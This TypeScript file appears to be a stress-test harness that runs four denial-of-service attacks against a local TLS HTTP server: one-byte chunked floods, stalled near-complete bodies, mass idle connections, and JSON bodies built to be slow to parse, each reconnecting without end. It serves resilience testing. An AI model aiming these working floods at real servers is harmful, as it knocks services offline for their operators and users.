import { connect, type TLSSocket } from 'node:tls';

/** One way to wear a server out. It runs until the process is killed, and reconnects when it is cut off. */
type Attack = (port: number) => void;

const MIB = 1024 * 1024;
const HEAD = 'POST /mutate HTTP/1.1\r\nHost: x\r\n';

/** Bodies of 8 MiB that take long to parse, by the shape of their JSON. */
const EXPENSIVE: { readonly [shape: string]: string } = {
  nested: '['.repeat(4 * MIB - 1) + ']'.repeat(4 * MIB - 1),
  shallow: `[${`${'['.repeat(200)}${']'.repeat(200)},`.repeat((8 * MIB) / 401 - 1)}1]`,
  wide: `[${'[],'.repeat((8 * MIB) / 3 - 2)}1]`,
  keys: `{${Array.from({ length: 600_000 }, (_, index) => `"${index}":1`).join(',')}}`,
};

const ATTACKS: { readonly [name: string]: Attack } = {
  /** One-byte HTTP chunks on a few connections. */
  'tiny-chunks': (port) => {
    const chunks = '1\r\nx\r\n'.repeat(4096);
    repeat(4, () => flood(port, `${HEAD}Transfer-Encoding: chunked\r\n\r\n`, chunks));
  },
  /** Bodies that stop right before their end. */
  'stalled-bodies': (port) => {
    const body = Buffer.alloc(7.9 * MIB, 32);
    const send = (socket: TLSSocket) => {
      socket.write(`${HEAD}Content-Length: ${8 * MIB}\r\n\r\n`);
      socket.write(body);
    };
    repeat(80, () => open(port, send, 2000));
  },
  /** Connections without a request. */
  'idle-connections': (port) => repeat(1500, () => open(port, () => {}, 5000)),
  /** Bodies that take long to parse. */
  'expensive-bodies': (port) => {
    for (const body of Object.values(EXPENSIVE)) {
      open(port, (socket) => {
        const send = () => socket.write(`${HEAD}Content-Length: ${body.length}\r\n\r\n${body}`);
        socket.on('data', send);
        send();
      });
    }
  },
};

/** The names of the attacks. */
export const ATTACK_NAMES = Object.keys(ATTACKS);

function repeat(count: number, run: () => void): void {
  for (let index = 0; index < count; index += 1) run();
}

function open(port: number, onConnect: (socket: TLSSocket) => void, pauseMs = 250): void {
  const socket = connect({ host: '127.0.0.1', port, rejectUnauthorized: false }, () => onConnect(socket));
  socket.on('error', () => {});
  socket.on('close', () => setTimeout(() => open(port, onConnect, pauseMs), pauseMs));
  socket.resume();
}

function flood(port: number, head: string, chunk: string): void {
  open(port, (socket) => {
    const send = () => {
      while (!socket.destroyed && socket.write(chunk));
    };
    socket.write(head);
    socket.on('drain', send);
    send();
  });
}

const [, script = '', name = '', port] = process.argv;
if (script.endsWith('attacker.js')) ATTACKS[name]?.(Number(port));
